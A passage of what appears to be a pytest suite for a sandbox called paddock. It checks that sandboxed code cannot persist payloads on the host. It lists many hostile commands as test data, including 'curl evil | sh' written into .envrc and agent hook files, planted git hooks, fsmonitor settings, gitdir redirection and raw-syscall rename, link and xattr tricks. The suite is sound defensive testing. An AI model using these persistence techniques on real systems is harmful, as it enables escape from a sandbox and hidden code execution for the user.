"""Threat: persist code that runs later outside the sandbox. Protected names (shell rc files,
.gitconfig, .gitmodules, .git/hooks/, .git/config, editor, agent and hook-manager files: the
grouped list of docs/PROTECTED_NAMES.md, filesystem.protectedNames, the settings file in use,
--deny-write entries and every spelling of a symlinked one) stay read-only under writable paths,
at any depth, whether they exist or not, against renames, links, symlinks and direct syscalls,
and the directories leading to them cannot be swapped for prepared ones.

The oracle is host-side: protected_state() digests every protected path in the project before and
after, and git_dirs_state() records every .git entry (what host git will use)."""

import json
import os
import stat
import subprocess

import pytest

from conftest import (PROTECTED_NAMES, TIMEOUT, diff_snapshots, file_digest, git_dirs_state,
                      init_repo, protected_state, snapshot, unique)

ORIGINAL = "# original\n"
USER_HOOK = "#!/bin/sh\n# the user's own pre-commit hook\nexit 0\n"
NESTED = "sub/a/b/c"


@pytest.fixture
def tree(sb):
    """project = git repo made on the host, with .bashrc at the root and in sub/, a nested repo
    at depth 4 (sub/a/b/c) carrying a user hook, and a plain directory without .git."""
    p = sb.project
    init_repo(sb, p)
    (p / ".bashrc").write_text(ORIGINAL)
    (p / "sub").mkdir()
    (p / "sub" / ".bashrc").write_text(ORIGINAL)
    init_repo(sb, p / NESTED)
    hook = p / NESTED / ".git" / "hooks" / "pre-commit"
    hook.write_text(USER_HOOK)
    hook.chmod(0o755)
    (p / "plain").mkdir()
    (p / "plain" / "f.txt").write_text("plain\n")
    for d in (p / ".claude", p / "sub" / "a" / ".claude"):
        d.mkdir(parents=True)
        (d / "settings.json").write_text(ORIGINAL)
    return p


class Oracle:
    def __init__(self, project):
        self.project = project
        self.protected = protected_state(project)
        self.gitdirs = git_dirs_state(project)
        # control: the oracle sees what it must guard
        assert ".git/config" in self.protected and ".git/hooks" in self.protected
        assert f"{NESTED}/.git/hooks/pre-commit" in self.protected
        assert "sub/.bashrc" in self.protected
        assert "sub/a/.claude/settings.json" in self.protected

    def check(self, r=None):
        after = protected_state(self.project)
        before, now = git_tolerant(self.protected), git_tolerant(after)
        for k in [k for k in before if k not in now and is_git_config(k)]:
            del before[k]  # removed: allowed
        d = diff_snapshots(before, now)
        assert not d, "protected paths changed on the host:\n" + "\n".join(d) + f"\n{r!r}"
        # the repositories' .git entries stay what they were (new ones are judged by what the
        # host's git would run: test_git_redirect_attack, test_git_adoption.py)
        g = git_dirs_state(self.project)
        changed = {k: (v, g.get(k)) for k, v in self.gitdirs.items() if g.get(k) != v}
        assert not changed, f".git entries changed: {changed}\n{r!r}"


def git_tolerant(state):
    """What the git rules let change in a protected state (docs/GIT.md): hooks named *.sample
    (git never runs them) and the hooks directories' own timestamps; a config's mode, and the
    config itself may go (removing it plants nothing). Its content, when present, and every hook
    git would run must stay as they were."""
    out = {}
    for rel, digest in state.items():
        comps = rel.split("/")
        if comps[-1].endswith(".sample") and len(comps) > 1 and comps[-2] == "hooks":
            continue
        if comps[-1] == "hooks" and digest and digest[0] == "dir":
            continue
        if is_git_config(rel) and digest is not None:
            digest = (digest[0], digest[-1])  # kind and content only
        out[rel] = digest
    return {k: v for k, v in out.items() if v is not None}


def is_git_config(rel):
    comps = rel.split("/")
    return comps[-1] in ("config", "config.worktree") and ".git" in comps


def cases(table, bugs):
    """pytest params for a table of attacks; known paddock bugs are strict xfails."""
    out = []
    for k in table:
        marks = [pytest.mark.xfail(strict=True, reason=bugs[k])] if k in bugs else []
        out.append(pytest.param(k, id=k, marks=marks))
    return out


def run_attack(sb, cmd, flags=()):
    return sb.sh(cmd + "\nexit 0", flags=flags)


# Each attack is a shell command run from the project root; afterwards nothing protected may
# differ on the host. ids name the technique.
ATTACKS = {
    # existing rc file at the root (bound read-only) and nested (only the mediator guards it)
    "append-bashrc": "echo evil >> .bashrc",
    "overwrite-bashrc": "echo evil > .bashrc",
    "sed-i-bashrc": "sed -i s/original/evil/ .bashrc",
    "cp-over-bashrc": "cp /dev/null .bashrc",
    "truncate-bashrc": "truncate -s0 .bashrc",
    "python-append-bashrc": "python3 -c \"open('.bashrc','a').write('evil')\"",
    "append-nested-bashrc": "echo evil >> sub/.bashrc",
    "sed-i-nested-bashrc": "sed -i s/original/evil/ sub/.bashrc",
    "truncate-nested-bashrc": "truncate -s0 sub/.bashrc",
    "chmod-nested-bashrc": "chmod 777 sub/.bashrc",
    # names that do not exist yet
    "new-vscode-tasks": "mkdir .vscode; echo '{}' > .vscode/tasks.json",
    "new-vscode-deep": "mkdir -p sub/deep/er/.vscode; echo '{}' > sub/deep/er/.vscode/tasks.json",
    "new-idea": "mkdir .idea; echo x > .idea/workspace.xml",
    "new-envrc": "echo 'curl evil | sh' > .envrc",
    "new-envrc-nested": "echo x > sub/a/.envrc",
    "new-mcp-json": "echo '{}' > .mcp.json",
    "new-husky": "mkdir .husky; echo x > .husky/pre-commit",
    "new-gitmodules": "echo x > .gitmodules",
    "new-gitconfig": "echo '[core] fsmonitor = evil' > .gitconfig",
    "new-profile": "echo x > .profile; echo x > .bash_profile; echo x > .zshrc; echo x > .zshenv",
    "new-zshrc-nested": "echo x > sub/a/b/.zshrc",
    "new-fish-config": "mkdir -p .config/fish; echo x > .config/fish/config.fish",
    "mkfifo-envrc": "mkfifo .envrc",
    "touch-envrc": "touch .envrc",
    # git hooks, root repository (exists on the host, so it is bound read-only too)
    "hook-create": "echo 'echo pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    "hook-cp": "cp /bin/true .git/hooks/post-checkout",
    "hook-symlink": "ln -s /bin/sh .git/hooks/pre-push",
    "hook-mkdir": "mkdir .git/hooks/sub",
    "hook-rename-sample": "mv .git/hooks/pre-commit.sample .git/hooks/pre-commit",
    "hook-copy-sample": "cp .git/hooks/pre-commit.sample .git/hooks/pre-commit",
    "hook-via-cd": "cd .git/hooks && echo x > pre-commit",
    "hook-via-cd-git": "cd .git && echo x > hooks/pre-commit",
    "hook-dotdot-path": "echo x > ./.git//hooks/../hooks/pre-commit",
    "hook-proc-cwd": "echo x > /proc/self/cwd/.git/hooks/pre-commit",
    "hook-tar": "mkdir -p /tmp/s/xgit/hooks && echo x > /tmp/s/xgit/hooks/pre-commit && "
                "tar cf /tmp/t.tar -C /tmp/s --transform s/xgit/.git/ xgit/hooks/pre-commit && "
                "tar xf /tmp/t.tar",
    "nested-hook-tar": "mkdir -p /tmp/s/xgit/hooks && echo x > /tmp/s/xgit/hooks/post-merge && "
                       f"tar cf /tmp/t.tar -C /tmp/s --transform s/xgit/.git/ xgit/hooks/post-merge && "
                       f"tar xf /tmp/t.tar -C {NESTED}",
    # git hooks, nested repository at depth 4 (only the mediator guards it)
    "nested-hook-create": f"echo x > {NESTED}/.git/hooks/post-checkout",
    "nested-hook-overwrite": f"echo 'echo pwned' > {NESTED}/.git/hooks/pre-commit",
    "nested-hook-append": f"echo 'echo pwned' >> {NESTED}/.git/hooks/pre-commit",
    "nested-hook-via-cd": f"cd {NESTED}/.git/hooks && echo x > post-merge",
    "nested-hook-rename-sample": f"mv {NESTED}/.git/hooks/pre-push.sample {NESTED}/.git/hooks/pre-push",
    "nested-hooks-dir-moved": f"mv {NESTED}/.git/hooks {NESTED}/.git/hooks-old; "
                              f"mkdir {NESTED}/.git/hooks; echo x > {NESTED}/.git/hooks/post-merge",
    # git config
    "git-config-fsmonitor": "git config core.fsmonitor 'echo pwned'",
    "git-config-alias": "git config alias.st '!echo pwned'",
    "git-config-hookspath": "git config core.hooksPath /tmp/hooks",
    "append-git-config": "printf '[core]\\n\\tfsmonitor = echo pwned\\n' >> .git/config",
    "new-config-worktree": "echo '[core] fsmonitor = evil' > .git/config.worktree",
    "nested-git-config": f"git -C {NESTED} config core.fsmonitor 'echo pwned'",
    "nested-append-config": f"printf '[core]\\n\\tfsmonitor = x\\n' >> {NESTED}/.git/config",
    "nested-chmod-config": f"chmod 777 {NESTED}/.git/config",
    # renames onto protected names
    "mv-file-to-envrc": "echo evil > x && mv x .envrc",
    "mv-file-over-bashrc": "echo evil > x && mv -f x .bashrc",
    "mv-file-over-nested-bashrc": "echo evil > x && mv -f x sub/.bashrc",
    "mv-dir-to-vscode": "mkdir vs && echo '{}' > vs/tasks.json && mv vs .vscode",
    "mv-dir-to-nested-vscode": "mkdir vs && echo '{}' > vs/tasks.json && mv vs sub/.vscode",
    "mv-parent-of-envrc-target": "mkdir -p d && echo x > d/f && mv d .husky",
    # the brief's sequence: move .git away, make a fresh hooks dir
    "mv-git-away-root": "mv .git .git-old && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
    "mv-git-away-nested": f"cd {NESTED} && mv .git .git-old && mkdir -p .git/hooks && "
                          "echo x > .git/hooks/pre-commit",
    # links
    "hardlink-bashrc": "ln .bashrc hb && echo evil >> hb",
    "hardlink-nested-bashrc": "ln sub/.bashrc hb && echo evil >> hb",
    "hardlink-git-config": "ln .git/config c && echo evil >> c",
    "hardlink-nested-git-config": f"ln {NESTED}/.git/config c && echo evil >> c",
    "hardlink-nested-hook": f"ln {NESTED}/.git/hooks/pre-commit h && echo 'echo pwned' >> h",
    "hardlink-into-hooks": f"echo x > h && ln h {NESTED}/.git/hooks/post-merge",
    "symlink-git-dir": "ln -s .git g && echo x > g/hooks/pre-commit",
    "symlink-nested-repo": f"ln -s {NESTED} n && echo x > n/.git/hooks/post-merge && echo x >> n/.git/config",
    "symlink-nested-hooks": f"ln -s {NESTED}/.git/hooks h && echo x > h/post-merge",
    "symlink-dangling-envrc": "ln -s .envrc e && echo x > e",
    "symlink-dangling-hook": "ln -s .git/hooks/pre-commit p && echo x > p",
    "symlink-dangling-nested-hook": f"ln -s {NESTED}/.git/hooks/post-merge p && echo x > p",
    "symlink-self": "ln -s . self && echo x > self/.envrc",
    "symlink-named-envrc": "ln -s README.md .envrc",
    "symlink-abs-nested-bashrc": "ln -s \"$PWD/sub/.bashrc\" b && echo evil >> b",
    # deletions of existing protected files (a user's hook, a nested rc file)
    "rm-nested-bashrc": "rm -f sub/.bashrc",
    "rm-nested-user-hook": f"rm -f {NESTED}/.git/hooks/pre-commit",
    "rm-nested-hooks-dir": f"rm -rf {NESTED}/.git/hooks",
    "rm-nested-git-config": f"rm -f {NESTED}/.git/config",
    "rm-root-bashrc": "rm -f .bashrc",
    "rm-root-hook-sample": "rm -f .git/hooks/pre-commit.sample",
    # multi-component names (issue 8): the files, and the directories that lead to them
    "overwrite-claude-settings": "echo '{\"hooks\":{}}' > .claude/settings.json",
    "overwrite-nested-claude-settings": "echo evil > sub/a/.claude/settings.json",
    "new-claude-local-settings": "echo '{}' > sub/a/.claude/settings.local.json",
    "new-claude-hook": "mkdir -p .claude/hooks && echo 'curl evil|sh' > .claude/hooks/h.sh",
    "mv-claude-away": "mv .claude c2 && mkdir .claude && echo evil > .claude/settings.json",
    "mv-nested-claude-away": "mv sub/a/.claude sub/a/c2 && mkdir sub/a/.claude && "
                             "echo evil > sub/a/.claude/settings.json",
    "rm-nested-claude-settings": "rm -f sub/a/.claude/settings.json",
    "mv-dir-to-claude": "mkdir -p plain/c/hooks && echo '{}' > plain/c/settings.json && "
                        "mv plain/c plain/.claude",
    "mv-dir-to-nested-claude": "mkdir c && echo '{}' > c/settings.json && mv c sub/a/b/.claude",
    "symlink-claude": "mkdir c && echo '{}' > c/settings.json && ln -s ../c plain/.claude",
    "symlink-config": "mkdir -p c/fish c/git && echo x > c/fish/config.fish && "
                      "echo '[core] fsmonitor = x' > c/git/config && ln -s ../c plain/.config",
    "mv-dir-to-config-git": "mkdir -p plain/.config g && echo '[alias] x = !evil' > g/config && "
                            "mv g plain/.config/git",
    "mv-dir-to-github": "mkdir -p g/hooks && echo '{}' > g/hooks/h.json && mv g plain/.github",
    "mv-file-to-pre-commit": "echo 'repos: []' > x && mv x sub/.pre-commit-config.yaml",
    "new-mise-env-toml": "echo '[hooks]' > sub/mise.local.toml; echo x > mise.dev.toml",
    "python-replace-lefthook": "python3 -c \"import os; open('t','w').write('x'); "
                               "os.replace('t', 'sub/a/lefthook.yml')\"",
}


ATTACK_BUGS = {
}


@pytest.mark.parametrize("attack", cases(ATTACKS, ATTACK_BUGS))
def test_protected_attack(sb, tree, attack):
    o = Oracle(tree)
    r = run_attack(sb, ATTACKS[attack])
    o.check(r)
    assert (tree / ".bashrc").read_text() == ORIGINAL
    assert (tree / "sub" / ".bashrc").read_text() == ORIGINAL
    assert (tree / "sub" / "a" / ".claude" / "settings.json").read_text() == ORIGINAL
    for d in ("plain/.claude", "plain/.config", "plain/.github", "sub/a/b/.claude"):
        assert not os.path.islink(tree / d), d  # a link there would rename what lies beyond


def test_protected_attack_controls(sb, tree):
    """Positive control: the same techniques work on unprotected names, so the attacks above are
    real (they would succeed without the protection)."""
    r = sb.sh("set -e; echo x > envrc; mkdir vscode; echo '{}' > vscode/tasks.json;"
              "echo x > .git/description; mkdir -p .git/hooksx; echo x > .git/hooksx/pre-commit;"
              "echo evil >> sub/bashrc; ln -s README.md lnk; ln README.md hl; mv hl hl2;"
              "mkdir evil; mv evil plain/notgit; mkfifo fifo; echo x > plain/.notenvrc;"
              "echo OK")
    assert r.rc == 0 and "OK" in r.out, r
    for rel in ["envrc", "vscode/tasks.json", ".git/hooksx/pre-commit", "sub/bashrc", "lnk",
                "hl2", "plain/notgit", "plain/.notenvrc"]:
        assert os.path.lexists(tree / rel), rel
    assert (tree / ".git" / "description").read_text() == "x\n"
    assert not r.denials, r


def test_container_attack_controls(sb, tree):
    """Positive control for the multi-component attacks: the same moves under other names work,
    and a directory named .claude can still be made and used for files not on the list."""
    r = sb.sh("set -e; mkdir -p plain/c/hooks && echo '{}' > plain/c/settings.json && "
              "mv plain/c plain/claude; mkdir c2 && ln -s ../c2 plain/.claudex; "
              "mkdir -p plain/.config && mkdir g && mv g plain/.config/gitx; "
              "mkdir -p plain/.claude/projects && echo x > plain/.claude/notes.md; echo OK")
    assert r.rc == 0 and "OK" in r.out, r
    assert (tree / "plain" / "claude" / "settings.json").exists()
    assert os.path.islink(tree / "plain" / ".claudex")
    assert (tree / "plain" / ".config" / "gitx").is_dir()
    assert (tree / "plain" / ".claude" / "notes.md").read_text() == "x\n"
    assert not r.denials, r


def test_denials_are_reported(sb, tree):
    r = sb.sh("echo x > .envrc; echo x > .git/hooks/pre-commit; exit 0")
    assert any(".envrc" in l for l in r.denials), r
    assert any("pre-commit" in l or ".git/hooks" in l for l in r.denials), r
    q = sb.sh("echo x > .envrc; exit 0", flags=["--quiet"])
    assert not q.denials and "paddock:" not in q.err, q


# --- direct syscalls from Python (no shell, no coreutils) ------------------------------------

PY_PRELUDE = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, f):
    try:
        f(); print(name, "OK")
    except OSError as e:
        print(name, "ERR", e.errno)
"""

PY_ATTACKS = {
    "os-open-creat-envrc": "attempt('o', lambda: os.close(os.open('.envrc', os.O_WRONLY|os.O_CREAT, 0o644)))",
    "os-open-creat-hook": "attempt('o', lambda: os.close(os.open('.git/hooks/pre-commit', os.O_WRONLY|os.O_CREAT, 0o755)))",
    "os-open-creat-nested-hook": f"attempt('o', lambda: os.close(os.open('{NESTED}/.git/hooks/post-merge', os.O_WRONLY|os.O_CREAT, 0o755)))",
    "os-open-trunc-nested-bashrc": "attempt('o', lambda: os.close(os.open('sub/.bashrc', os.O_WRONLY|os.O_TRUNC)))",
    "os-open-rdwr-nested-config": f"attempt('o', lambda: os.write(os.open('{NESTED}/.git/config', os.O_RDWR|os.O_APPEND), b'[core]\\n\\tfsmonitor = x\\n'))",
    "os-open-dirfd-hook": "d = os.open('.git', os.O_RDONLY|os.O_DIRECTORY)\n"
                          "attempt('o', lambda: os.close(os.open('hooks/pre-commit', os.O_WRONLY|os.O_CREAT, 0o755, dir_fd=d)))",
    "os-open-dirfd-nested-hook": f"d = os.open('{NESTED}/.git/hooks', os.O_RDONLY|os.O_DIRECTORY)\n"
                                 "attempt('o', lambda: os.close(os.open('post-merge', os.O_WRONLY|os.O_CREAT, 0o755, dir_fd=d)))",
    "os-open-dirfd-envrc": "d = os.open('sub', os.O_RDONLY|os.O_DIRECTORY)\n"
                           "attempt('o', lambda: os.close(os.open('.envrc', os.O_WRONLY|os.O_CREAT, dir_fd=d)))",
    "creat-syscall-envrc": "def c():\n"
                           "    fd = libc.creat(b'.envrc', 0o644)\n"
                           "    if fd < 0: raise OSError(ctypes.get_errno(), 'creat')\n"
                           "attempt('c', c)",
    "os-mkdir-vscode": "attempt('m', lambda: os.mkdir('.vscode'))",
    "os-mkdir-dirfd-vscode": "d = os.open('sub', os.O_RDONLY|os.O_DIRECTORY)\nattempt('m', lambda: os.mkdir('.vscode', dir_fd=d))",
    "os-mknod-envrc": "import stat\nattempt('n', lambda: os.mknod('.envrc', 0o644 | stat.S_IFREG))",
    "os-rename-to-envrc": "open('x','w').write('evil')\nattempt('r', lambda: os.rename('x', '.envrc'))",
    "os-replace-nested-bashrc": "open('x','w').write('evil')\nattempt('r', lambda: os.replace('x', 'sub/.bashrc'))",
    "os-rename-dirfd-hook": "open('x','w').write('evil')\nd = os.open('.git/hooks', os.O_RDONLY|os.O_DIRECTORY)\n"
                            "attempt('r', lambda: os.rename('x', 'pre-commit', dst_dir_fd=d))",
    "os-rename-dirfd-nested-hook": "open('x','w').write('evil')\n"
                                   f"d = os.open('{NESTED}/.git/hooks', os.O_RDONLY|os.O_DIRECTORY)\n"
                                   "attempt('r', lambda: os.rename('x', 'post-merge', dst_dir_fd=d))",
    "os-link-nested-config": f"attempt('l', lambda: os.link('{NESTED}/.git/config', 'c'))\n"
                             "attempt('w', lambda: open('c','a').write('evil'))",
    "os-link-into-nested-hooks": "open('h','w').write('evil')\n"
                                 f"attempt('l', lambda: os.link('h', '{NESTED}/.git/hooks/post-merge'))",
    "os-symlink-envrc": "attempt('s', lambda: os.symlink('README.md', '.envrc'))",
    "os-symlink-into-nested-hooks": f"attempt('s', lambda: os.symlink('/bin/sh', '{NESTED}/.git/hooks/post-merge'))",
    "os-truncate-nested-bashrc": "attempt('t', lambda: os.truncate('sub/.bashrc', 0))",
    "os-chmod-nested-hook": f"attempt('c', lambda: os.chmod('{NESTED}/.git/hooks/pre-commit', 0o777))",
    "renameat2-exchange-nested-bashrc":
        "open('x','w').write('evil')\n"
        "def ex():\n"
        "    if libc.renameat2(-100, b'x', -100, b'sub/.bashrc', 2) != 0:\n"
        "        raise OSError(ctypes.get_errno(), 'renameat2')\n"
        "attempt('x', ex)",
    "renameat2-exchange-nested-hooks":
        "os.makedirs('hx'); open('hx/post-merge','w').write('evil')\n"
        "def ex():\n"
        f"    if libc.renameat2(-100, b'hx', -100, b'{NESTED}/.git/hooks', 2) != 0:\n"
        "        raise OSError(ctypes.get_errno(), 'renameat2')\n"
        "attempt('x', ex)",
    "renameat2-exchange-nested-gitdir":
        "os.makedirs('gx/hooks'); open('gx/hooks/pre-commit','w').write('evil')\n"
        "def ex():\n"
        f"    if libc.renameat2(-100, b'gx', -100, b'{NESTED}/.git', 2) != 0:\n"
        "        raise OSError(ctypes.get_errno(), 'renameat2')\n"
        "attempt('x', ex)",
    "renameat2-noreplace-envrc":
        "open('x','w').write('evil')\n"
        "def ex():\n"
        "    if libc.renameat2(-100, b'x', -100, b'.envrc', 1) != 0:\n"
        "        raise OSError(ctypes.get_errno(), 'renameat2')\n"
        "attempt('x', ex)",
    "tmpfile-linkat-empty-path":
        "fd = os.open('.', os.O_TMPFILE|os.O_WRONLY, 0o755); os.write(fd, b'evil')\n"
        "def ln():\n"
        "    if libc.linkat(fd, b'', -100, b'.envrc', 0x1000) != 0:\n"
        "        raise OSError(ctypes.get_errno(), 'linkat')\n"
        "attempt('l', ln)\n"
        "def ln2():\n"
        f"    if libc.linkat(fd, b'', -100, b'{NESTED}/.git/hooks/post-merge', 0x1000) != 0:\n"
        "        raise OSError(ctypes.get_errno(), 'linkat')\n"
        "attempt('l2', ln2)",
    "tmpfile-linkat-proc-fd":
        "fd = os.open('.', os.O_TMPFILE|os.O_WRONLY, 0o755); os.write(fd, b'evil')\n"
        "def ln():\n"
        f"    if libc.linkat(-100, f'/proc/self/fd/{{fd}}'.encode(), -100, b'{NESTED}/.git/hooks/post-merge', 0x400) != 0:\n"
        "        raise OSError(ctypes.get_errno(), 'linkat')\n"
        "attempt('l', ln)",
    "tmpfile-in-hooks":
        f"attempt('t', lambda: os.write(os.open('{NESTED}/.git/hooks', os.O_TMPFILE|os.O_WRONLY, 0o755), b'x'))",
    "openat2-creat-envrc":
        "import struct\n"
        "how = struct.pack('QQQ', os.O_WRONLY|os.O_CREAT, 0o644, 0)\n"
        "def o2():\n"
        "    r = libc.syscall(437, -100, b'.envrc', how, len(how))\n"
        "    if r < 0: raise OSError(ctypes.get_errno(), 'openat2')\n"
        "attempt('o2', o2)",
    "reopen-ro-fd-for-write":
        "for p in ['sub/.bashrc', '" + NESTED + "/.git/hooks/pre-commit', '" + NESTED + "/.git/config']:\n"
        "    fd = os.open(p, os.O_RDONLY)\n"
        "    for via in [f'/proc/self/fd/{fd}', f'/dev/fd/{fd}', f'/proc/{os.getpid()}/fd/{fd}']:\n"
        "        attempt(via, lambda: os.write(os.open(via, os.O_WRONLY|os.O_APPEND), b'evil'))",
    "proc-self-fd-dir-open":
        f"d = os.open('{NESTED}/.git/hooks', os.O_RDONLY|os.O_DIRECTORY)\n"
        "attempt('o', lambda: os.close(os.open(f'/proc/self/fd/{d}/post-merge', os.O_WRONLY|os.O_CREAT)))",
}


@pytest.mark.parametrize("attack", cases(PY_ATTACKS, {}))
def test_protected_python_syscalls(sb, tree, attack):
    o = Oracle(tree)
    script = PY_PRELUDE + PY_ATTACKS[attack] + "\n"
    r = sb.exec(["python3", "-c", script])
    assert r.rc == 0, r  # the script itself ran
    o.check(r)
    assert not (tree / ".envrc").exists() and not (tree / "sub" / ".envrc").exists()


# --- extended attributes ------------------------------------------------------------------------
#
# system.posix_acl_access rewrites the mode bits (an ACL without a mask entry is the mode): a
# disabled hook made executable, a protected file made writable, without chmod. Every call that
# sets or removes an xattr, by path, by read-only fd or dirfd-relative, is the supervisor's to
# judge; the oracle digests mode and xattrs.

XATTR_PRELUDE = PY_PRELUDE + r"""
import struct
# version 2; USER_OBJ, GROUP_OBJ, OTHER all rwx: mode 0777
ACL = struct.pack('<I', 2) + b''.join(struct.pack('<HHI', t, 7, 0xffffffff) for t in (1, 4, 0x20))


class XattrArgs(ctypes.Structure):
    _fields_ = [('value', ctypes.c_uint64), ('size', ctypes.c_uint32), ('flags', ctypes.c_uint32)]


def setxattrat(path, name, value, dirfd=-100):
    buf = ctypes.create_string_buffer(value, len(value))
    args = XattrArgs(ctypes.cast(buf, ctypes.c_void_p).value, len(value), 0)
    if libc.syscall(463, dirfd, path.encode(), 0, name.encode(), ctypes.byref(args),
                    ctypes.sizeof(args)) != 0:
        raise OSError(ctypes.get_errno(), 'setxattrat')


def removexattrat(path, name):
    if libc.syscall(466, -100, path.encode(), 0, name.encode()) != 0:
        raise OSError(ctypes.get_errno(), 'removexattrat')
"""

HOOK = f"{NESTED}/.git/hooks/pre-commit"
XATTR_ATTACKS = {
    "setxattr-acl-nested-hook": f"attempt('s', lambda: os.setxattr('{HOOK}', 'system.posix_acl_access', ACL))",
    "setxattr-acl-disabled-hook": f"attempt('s', lambda: os.setxattr('{NESTED}/.git/hooks/post-merge', 'system.posix_acl_access', ACL))",
    "setxattr-acl-nested-bashrc": "attempt('s', lambda: os.setxattr('sub/.bashrc', 'system.posix_acl_access', ACL))",
    "lsetxattr-acl-nested-config": f"attempt('s', lambda: os.setxattr('{NESTED}/.git/config', 'system.posix_acl_access', ACL, follow_symlinks=False))",
    "fsetxattr-acl-ro-fd-nested-config": f"fd = os.open('{NESTED}/.git/config', os.O_RDONLY)\n"
                                         "attempt('s', lambda: os.setxattr(fd, 'system.posix_acl_access', ACL))",
    "fsetxattr-acl-ro-fd-nested-hooks-dir": f"fd = os.open('{NESTED}/.git/hooks', os.O_RDONLY|os.O_DIRECTORY)\n"
                                            "attempt('s', lambda: os.setxattr(fd, 'system.posix_acl_access', ACL))",
    "setxattrat-acl-nested-hook": f"attempt('s', lambda: setxattrat('{HOOK}', 'system.posix_acl_access', ACL))",
    "setxattrat-dirfd-acl-nested-hook": f"d = os.open('{NESTED}/.git/hooks', os.O_RDONLY|os.O_DIRECTORY)\n"
                                        "attempt('s', lambda: setxattrat('pre-commit', 'system.posix_acl_access', ACL, d))",
    "setxattr-user-nested-bashrc": "attempt('s', lambda: os.setxattr('sub/.bashrc', 'user.evil', b'1'))",
    "removexattr-user-nested-bashrc": "attempt('r', lambda: os.removexattr('sub/.bashrc', 'user.paddock'))",
    "lremovexattr-user-nested-bashrc": "attempt('r', lambda: os.removexattr('sub/.bashrc', 'user.paddock', follow_symlinks=False))",
    "fremovexattr-ro-fd-nested-bashrc": "fd = os.open('sub/.bashrc', os.O_RDONLY)\n"
                                        "attempt('r', lambda: os.removexattr(fd, 'user.paddock'))",
    "removexattrat-user-nested-bashrc": "attempt('r', lambda: removexattrat('sub/.bashrc', 'user.paddock'))",
}


@pytest.fixture
def xattr_tree(tree):
    """tree, plus a disabled hook (mode 0644, as git's samples are until the user enables one)
    and a user xattr on sub/.bashrc for the removal attacks."""
    disabled = tree / NESTED / ".git" / "hooks" / "post-merge"
    disabled.write_text(USER_HOOK)
    disabled.chmod(0o644)
    try:
        os.setxattr(tree / "sub" / ".bashrc", "user.paddock", b"kept")
    except OSError as e:
        pytest.skip(f"no user xattrs on this filesystem: {e}")
    return tree


def test_xattr_acl_changes_mode_on_the_host(sb, xattr_tree, scratch):
    """Control: on this filesystem the ACL below rewrites a file's mode bits."""
    f = scratch / "acl-control"
    f.write_text("x\n")
    f.chmod(0o644)
    script = XATTR_PRELUDE + f"attempt('s', lambda: os.setxattr('{f}', 'system.posix_acl_access', ACL))\n"
    p = subprocess.run(["python3", "-c", script], capture_output=True, text=True, timeout=TIMEOUT)
    assert p.stdout.strip() == "s OK", p
    assert stat.S_IMODE(f.stat().st_mode) == 0o777


@pytest.mark.parametrize("attack", cases(XATTR_ATTACKS, {}))
def test_protected_xattrs(sb, xattr_tree, attack):
    o = Oracle(xattr_tree)
    assert o.protected[f"{NESTED}/.git/hooks/post-merge"][1] == 0o644
    r = sb.exec(["python3", "-c", XATTR_PRELUDE + XATTR_ATTACKS[attack] + "\n"])
    assert r.rc == 0, r
    assert " OK" not in r.out, r
    o.check(r)


# --- redirecting git to a gitdir the sandbox controls -----------------------------------------
#
# After each attack, host git runs `status` and `commit` where the user would; an attacker-chosen
# hook or core.fsmonitor writes a marker file. The marker must never appear.

def evil_gitdir(path, marker):
    """Shell that builds a complete gitdir at `path` whose hook and fsmonitor write `marker`."""
    return (f"mkdir -p {path}/hooks {path}/objects {path}/refs/heads && "
            f"echo 'ref: refs/heads/main' > {path}/HEAD && "
            f"printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n"
            f"\\tfsmonitor = \"echo pwned > {marker}; false\"\\n' > {path}/config && "
            f"printf '#!/bin/sh\\necho pwned > {marker}\\n' > {path}/hooks/pre-commit && "
            f"chmod +x {path}/hooks/pre-commit")


def evil_hook(hooks_dir, marker):
    return (f"printf '#!/bin/sh\\necho pwned > {marker}\\n' > {hooks_dir}/pre-commit && "
            f"chmod +x {hooks_dir}/pre-commit")


def host_git_fires(sb, where, marker):
    """Runs the user's everyday git commands on the host in `where`; True if the marker appeared."""
    for args in (["status"], ["commit", "--allow-empty", "-q", "-m", "host commit"]):
        subprocess.run(["git", *args], cwd=str(where), env=sb.env(), capture_output=True,
                       timeout=TIMEOUT, stdin=subprocess.DEVNULL)
    return os.path.exists(marker)


REDIRECTS = {
    # root repository: move .git away and point a gitfile at a gitdir we control
    "root-move-git-then-gitfile": (
        ".", lambda m: f"mv .git .git-old && {evil_hook('.git-old/hooks', m)}; "
                       "printf 'gitdir: .git-old\\n' > .git"),
    "root-replace-git-with-gitfile": (
        ".", lambda m: f"mv .git .git-old; {evil_gitdir('evil', m)} && printf 'gitdir: evil\\n' > .git"),
    # nested repository at depth 4
    "nested-move-git-then-gitfile": (
        NESTED, lambda m: f"cd {NESTED} && mv .git gitx && {evil_hook('gitx/hooks', m)} && "
                          "printf 'gitdir: gitx\\n' > .git"),
    "nested-move-git-then-symlink": (
        NESTED, lambda m: f"cd {NESTED} && mv .git gitx && {evil_hook('gitx/hooks', m)} && ln -s gitx .git"),
    # a directory inside the repository that has no .git of its own
    "plain-new-gitfile": (
        "plain", lambda m: f"{evil_gitdir('plain-git', m)} && printf 'gitdir: ../plain-git\\n' > plain/.git"),
    "plain-new-git-symlink": (
        "plain", lambda m: f"{evil_gitdir('plain-git', m)} && ln -s ../plain-git plain/.git"),
    "plain-mkdir-git": (
        "plain", lambda m: f"mkdir plain/.git; {evil_gitdir('plain/.git', m)}"),
    "plain-git-init": (
        "plain", lambda m: f"git init -q plain; {evil_hook('plain/.git/hooks', m)}; "
                           f"git -C plain config core.fsmonitor 'echo pwned > {m}; false'"),
    # deleting is not renaming: remove a nested .git, then put a gitfile where it was
    "nested-rm-git-then-gitfile": (
        NESTED, lambda m: f"{evil_gitdir('evil', m)} && rm -rf {NESTED}/.git && "
                          f"printf 'gitdir: %s\\n' \"$PWD/evil\" > {NESTED}/.git"),
    # a `commondir` file in any gitdir makes git read config and hooks from the dir it names
    "root-add-commondir": (
        ".", lambda m: f"{evil_gitdir('evil', m)} && echo \"$PWD/evil\" > .git/commondir"),
    "nested-add-commondir": (
        NESTED, lambda m: f"{evil_gitdir('evil', m)} && echo \"$PWD/evil\" > {NESTED}/.git/commondir"),
    "plain-mkdir-git-with-commondir": (
        "plain", lambda m: f"{evil_gitdir('evil', m)} && mkdir -p plain/.git/objects plain/.git/refs && "
